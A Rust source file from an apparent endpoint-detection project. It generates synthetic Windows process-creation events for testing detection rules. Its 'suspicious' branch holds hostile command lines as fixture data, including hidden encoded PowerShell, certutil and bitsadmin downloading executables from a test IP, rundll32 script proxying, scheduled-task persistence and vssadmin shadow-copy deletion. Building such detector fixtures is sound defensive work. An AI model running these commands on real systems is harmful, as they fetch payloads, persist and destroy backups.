//! A deterministic generator of realistic `process_start` events over the endpoint schema: mostly
//! benign Windows process creations, with a few (about one in twelve) shaped to fire one of the
//! per-event rules ([`crate::per_event`]).

use vigil_runtime::event::{Event, EventBuilder};
use vigil_runtime::schema::Schema;
use vigil_test_support::rng::SplitMix64;

/// A process creation, as plain strings, before it becomes an [`Event`].
#[derive(Clone, Debug)]
struct Proc {
    image: String,
    command_line: String,
    parent_image: String,
    original_file_name: String,
    user: &'static str,
    integrity_level: &'static str,
    terminal_session_id: i64,
    logon_id: i64,
}

/// Benign (image, command line, original file name) triples; `{}` in the command line is
/// replaced by a varying number.
const BENIGN: &[(&str, &str, &str)] = &[
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        "svchost.exe",
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --renderer-client-id={} --lang=en-US --field-trial-handle=1748,i,9912846562,1633"#,
        "chrome.exe",
    ),
    (
        r"C:\Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        "CONHOST.EXE",
    ),
    (
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        "EXPLORER.EXE",
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\alice\Documents\Report {}.docx" /o """#,
        "WinWord.exe",
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r#"powershell.exe -NoProfile -ExecutionPolicy RemoteSigned -File "C:\ProgramData\Corp\inventory{}.ps1""#,
        "PowerShell.EXE",
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r#"C:\Windows\system32\cmd.exe /c "C:\Program Files\Corp\backup.bat" {}"#,
        "Cmd.Exe",
    ),
    (
        r"C:\Windows\System32\taskhostw.exe",
        r"taskhostw.exe {}",
        "taskhostw.exe",
    ),
    (
        r"C:\Program Files\Git\cmd\git.exe",
        r"git.exe fetch --prune origin refs/heads/feature-{}",
        "git.exe",
    ),
    (
        r"C:\Windows\System32\rundll32.exe",
        r"C:\Windows\system32\rundll32.exe C:\Windows\System32\shell32.dll,SHCreateLocalServerRunDll {{9aa46009-3ce0-458a-a354-715610a075e6}} -Embedding",
        "RUNDLL32.EXE",
    ),
    (
        r"C:\Windows\System32\schtasks.exe",
        r#"schtasks.exe /query /tn "\Microsoft\Windows\Defrag\ScheduledDefrag{}""#,
        "schtasks.exe",
    ),
    (
        r"C:\Users\alice\AppData\Local\Programs\Microsoft VS ErrorCode\ErrorCode.exe",
        r#""C:\Users\alice\AppData\Local\Programs\Microsoft VS ErrorCode\ErrorCode.exe" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --user-data-dir="C:\Users\alice\AppData\Roaming\ErrorCode" --mojo-platform-channel-handle={}"#,
        "electron.exe",
    ),
];

const PARENTS: &[&str] = &[
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\services.exe",
    r"C:\Windows\System32\svchost.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\userinit.exe",
];

const USERS: &[&str] = &[
    r"CORP\alice",
    r"CORP\bob",
    r"NT AUTHORITY\SYSTEM",
    r"NT AUTHORITY\LOCAL SERVICE",
];

const LEVELS: &[&str] = &["Medium", "High", "System", "Low"];

/// Malicious-looking processes, one or more per per-event rule (see `crate::per_event`).
fn suspicious(i: usize, rng: &mut SplitMix64) -> Proc {
    let n = rng.index(100_000);
    let user = *USERS.get(i % 2).unwrap_or(&"CORP\\alice");
    let base = |image: &str, cmd: String, parent: &str, ofn: &str| Proc {
        image: image.into(),
        command_line: cmd,
        parent_image: parent.into(),
        original_file_name: ofn.into(),
        user,
        integrity_level: "High",
        terminal_session_id: 1,
        logon_id: 0x3e7 + 1000,
    };
    match i % 10 {
        0 => base(
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            format!("powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA{n}"),
            r"C:\Windows\explorer.exe",
            "PowerShell.EXE",
        ),
        1 => base(
            r"C:\Windows\System32\cmd.exe",
            format!(r"cmd.exe /c copy \\fileserver\share\invoice{n}.js %TEMP%"),
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            "Cmd.Exe",
        ),
        2 => base(
            r"C:\Windows\System32\rundll32.exe",
            format!(
                r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write({n})"#
            ),
            r"C:\Windows\explorer.exe",
            "RUNDLL32.EXE",
        ),
        3 => base(
            r"C:\Users\Public\cu.exe",
            format!("cu.exe -urlcache -split -f http://203.0.113.{}/a.exe a.exe", n % 250),
            r"C:\Windows\System32\cmd.exe",
            "CertUtil.exe",
        ),
        4 => base(
            r"C:\Windows\System32\schtasks.exe",
            format!(r#"schtasks /Create /SC ONLOGON /TN Updater{n} /TR "C:\Users\Public\u.exe""#),
            r"C:\Windows\System32\cmd.exe",
            "schtasks.exe",
        ),
        5 => Proc {
            integrity_level: "System",
            ..base(
                r"C:\ProgramData\svc\updater.exe",
                format!("updater.exe --service {n}"),
                r"C:\Windows\System32\services.exe",
                "updater.exe",
            )
        },
        6 => base(
            r"C:\Windows\System32\vssadmin.exe",
            "vssadmin.exe Delete Shadows /All /Quiet".into(),
            r"C:\Windows\System32\cmd.exe",
            "VSSADMIN.EXE",
        ),
        7 => base(
            r"C:\Windows\System32\MSHTA.EXE",
            format!(r"mshta.exe C:\Users\alice\Downloads\invoice{n}.hta"),
            r"C:\Windows\explorer.exe",
            "MSHTA.EXE",
        ),
        8 => Proc {
            terminal_session_id: 0,
            ..base(
                r"C:\Windows\Temp\x64\run.exe",
                format!("run.exe {n}"),
                r"C:\Windows\System32\services.exe",
                "run.exe",
            )
        },
        _ => base(
            r"C:\Windows\System32\bitsadmin.exe",
            format!("bitsadmin.exe /transfer job{n} /download /priority high http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe"),
            r"C:\Windows\System32\cmd.exe",
            "bitsadmin.exe",
        ),
    }
}

fn benign(rng: &mut SplitMix64) -> Proc {
    let (image, cmd, ofn) = BENIGN
        .get(rng.index(BENIGN.len()))
        .copied()
        .unwrap_or(("", "", ""));
    let n = rng.index(1_000_000);
    Proc {
        image: image.into(),
        command_line: cmd.replace("{}", &n.to_string()),
        parent_image: rng.pick(PARENTS).into(),
        original_file_name: ofn.into(),
        user: rng.pick(USERS),
        integrity_level: rng.pick(LEVELS),
        terminal_session_id: if rng.index(4) == 0 { 0 } else { 1 },
        logon_id: if rng.index(3) == 0 {
            999
        } else {
            0x10000 + rng.index(0xffff) as i64
        },
    }
}

/// `n` `process_start` events of `schema` (the endpoint schema or one with the same fields),
/// deterministic: the same `n` gives the same events. Every twelfth event is one of the
/// suspicious shapes of [`crate::per_event`]; the rest are benign.
///
/// # Panics
///
/// When `schema` has no `process_start` type with the endpoint schema's fields.
pub fn generate_events(schema: &Schema, n: usize) -> Vec<Event<'static>> {
    let mut rng = SplitMix64::new(0x0000_005E_ED0F_B1A5);
    let mut out = Vec::with_capacity(n);
    for i in 0..n {
        let p = if i % 12 == 5 {
            suspicious(i / 12, &mut rng)
        } else {
            benign(&mut rng)
        };
        out.push(build(schema, i, p));
    }
    out
}

fn build(schema: &Schema, i: usize, p: Proc) -> Event<'static> {
    const OK: &str = "the endpoint schema's process_start has this field";
    let mut b = EventBuilder::new(schema, "process_start").expect("a process_start event type");
    b.set_int("time", 1_700_000_000_000_000_000 + i as i64 * 1_000_000)
        .expect(OK);
    b.set_str("host", "WKS-0042.corp.example").expect(OK);
    b.set_int("pid", 1000 + (i as i64 * 4) % 60_000).expect(OK);
    b.set_int("ppid", 600 + (i as i64 * 8) % 30_000).expect(OK);
    b.set_string(
        "process_guid",
        format!("{{4a2b8c1d-{:04x}-65f0-0000-0010a1b2c3d4}}", i % 0xffff),
    )
    .expect(OK);
    b.start_list("args").expect(OK);
    for arg in p.command_line.split_whitespace().take(16) {
        b.push_item_cow("args", arg.to_owned().into()).expect(OK);
    }
    let dir = match p.image.rfind('\\') {
        Some(ix) => p.image.get(..ix).unwrap_or_default().to_owned(),
        None => String::new(),
    };
    b.set_string("current_directory", dir).expect(OK);
    b.set_string("image", p.image).expect(OK);
    b.set_string("command_line", p.command_line).expect(OK);
    b.set_string("parent_image", p.parent_image).expect(OK);
    b.set_string("original_file_name", p.original_file_name)
        .expect(OK);
    b.set_str("user", p.user).expect(OK);
    b.set_str("integrity_level", p.integrity_level).expect(OK);
    b.set_int("terminal_session_id", p.terminal_session_id)
        .expect(OK);
    b.set_int("logon_id", p.logon_id).expect(OK);
    b.set_str("company", "Microsoft Corporation").expect(OK);
    b.finish()
}
